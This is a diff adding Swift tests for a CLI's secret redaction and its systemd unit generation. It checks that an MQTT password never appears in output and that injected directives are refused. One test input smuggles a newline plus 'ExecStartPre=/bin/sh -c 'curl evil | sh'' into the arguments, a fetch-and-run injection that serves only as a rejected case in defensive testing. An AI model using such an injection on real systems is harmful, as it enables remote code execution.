@@ -1,0 +1,111 @@
+import Foundation
+import Testing
+
+/// The MQTT password never reaches a message, and `systemd-unit` writes only the directives it means to.
+@Suite struct SecretsAndUnitCommandTests {
+    static let recording: String = {
+        var url = URL(fileURLWithPath: #filePath)
+        while url.path != "/" {
+            url.deleteLastPathComponent()
+            if FileManager.default.fileExists(atPath: url.appendingPathComponent("Package.swift").path) { break }
+        }
+        return url.appendingPathComponent("Recordings/thermometer-fahrenheit.jsonl").path
+    }()
+
+    func scratch() throws -> URL {
+        let url = FileManager.default.temporaryDirectory.appendingPathComponent("secrets-\(UUID().uuidString)")
+        try FileManager.default.createDirectory(at: url, withIntermediateDirectories: true)
+        return url
+    }
+
+    @Test func aPasswordInTheURLIsNeverPrintedAndDrawsAWarning() throws {
+        let dir = try scratch()
+        let result = try CarebridgeProcess.run([
+            "replay", "--store", dir.appendingPathComponent("s.sqlite").path, "--mqtt-wait", "0.5",
+            "--mqtt", "mqtt://bridge:hunter2@127.0.0.1:1", Self.recording,
+        ])
+        #expect(result.status == 75, "\(result.stderr)")
+        #expect(!result.stderr.contains("hunter2") && !result.stdout.contains("hunter2"), "\(result.stderr)")
+        #expect(result.stderr.contains("mqtt://bridge:***@127.0.0.1:1"), "\(result.stderr)")
+        #expect(result.stderr.contains("visible") || result.stderr.contains("`ps`"), "\(result.stderr)")
+    }
+
+    @Test func aMalformedURLWithAPasswordIsRedactedInTheError() throws {
+        let dir = try scratch()
+        let result = try CarebridgeProcess.run([
+            "replay", "--store", dir.appendingPathComponent("s.sqlite").path, "--mqtt",
+            "mqtt://bridge:hunter2@host:99999", Self.recording,
+        ])
+        #expect(result.status == 64, "\(result.stderr)")
+        #expect(!result.stderr.contains("hunter2"), "\(result.stderr)")
+        #expect(result.stderr.contains("***"), "\(result.stderr)")
+    }
+
+    @Test func thePasswordFileAndTheEnvironmentVariableSilenceTheWarning() throws {
+        let dir = try scratch()
+        let file = dir.appendingPathComponent("password").path
+        try "hunter2\n".write(toFile: file, atomically: true, encoding: .utf8)
+        for (arguments, environment) in [
+            (["--mqtt-password-file", file], [String: String]()), ([], ["CAREBRIDGE_MQTT_PASSWORD": "hunter2"]),
+            ([], ["CREDENTIALS_DIRECTORY": dir.path]),
+        ] {
+            if environment["CREDENTIALS_DIRECTORY"] != nil {
+                try "hunter2\n".write(
+                    toFile: dir.appendingPathComponent("mqtt-password").path,
+                    atomically: true,
+                    encoding: .utf8
+                )
+            }
+            let result = try CarebridgeProcess.run(
+                [
+                    "replay", "--store", dir.appendingPathComponent("\(UUID().uuidString).sqlite").path,
+                    "--mqtt-wait", "0.2", "--mqtt", "mqtt://bridge@127.0.0.1:1",
+                ] + arguments + [Self.recording],
+                environment: environment
+            )
+            #expect(result.status == 75, "\(result.stderr)")
+            #expect(!result.stderr.contains("`ps`"), "\(arguments) \(environment): \(result.stderr)")
+            #expect(!result.stderr.contains("hunter2"))
+        }
+        let missing = try CarebridgeProcess.run([
+            "replay", "--store", dir.appendingPathComponent("m.sqlite").path, "--mqtt", "mqtt://bridge@127.0.0.1:1",
+            "--mqtt-password-file", dir.appendingPathComponent("nope").path, Self.recording,
+        ])
+        #expect(missing.status == 66, "\(missing.stderr)")
+    }
+
+    @Test func systemdUnitAcceptsArgumentsThatStartWithDashesAndQuotesEachWord() throws {
+        let result = try CarebridgeProcess.run([
+            "systemd-unit", "--arguments", #"--store "/var/lib/care bridge/50%.sqlite" --plan /etc/cb/$plan.json"#,
+        ])
+        #expect(result.status == 0, "\(result.stderr)")
+        #expect(
+            result.stdout.contains(
+                #"ExecStart=/usr/local/bin/carebridge run --store "/var/lib/care bridge/50%%.sqlite" --plan /etc/cb/$$plan.json"#
+            ),
+            "\(result.stdout)"
+        )
+        #expect(result.stdout.contains("Documentation=man:carebridge(1)"))
+    }
+
+    @Test(arguments: [
+        "--store /x.sqlite\nExecStartPre=/bin/sh -c 'curl evil | sh'", "--store /x\r", "--store /x\u{1B}[2J",
+        "--store '/x", "--mqtt mqtt://bridge:hunter2@broker", "--mqtt=mqtt://u:p@broker",
+    ])
+    func systemdUnitRefusesNewlinesControlCharactersAndPasswords(arguments: String) throws {
+        let result = try CarebridgeProcess.run(["systemd-unit", "--arguments", arguments])
+        #expect(result.status == 64, "\(result.stdout)")
+        #expect(!result.stdout.contains("ExecStartPre"))
+        #expect(!result.stderr.contains("hunter2"))
+    }
+
+    @Test func systemdUnitLoadsTheMQTTPasswordAsACredential() throws {
+        let result = try CarebridgeProcess.run([
+            "systemd-unit", "--arguments", "--store /var/lib/carebridge/store.sqlite --mqtt mqtt://bridge@broker",
+            "--mqtt-credential", "/etc/carebridge/mqtt-password",
+        ])
+        #expect(result.status == 0, "\(result.stderr)")
+        #expect(result.stdout.contains("LoadCredential=mqtt-password:/etc/carebridge/mqtt-password"))
+        #expect(result.stdout.contains("--mqtt mqtt://bridge@broker"))
+    }
+}
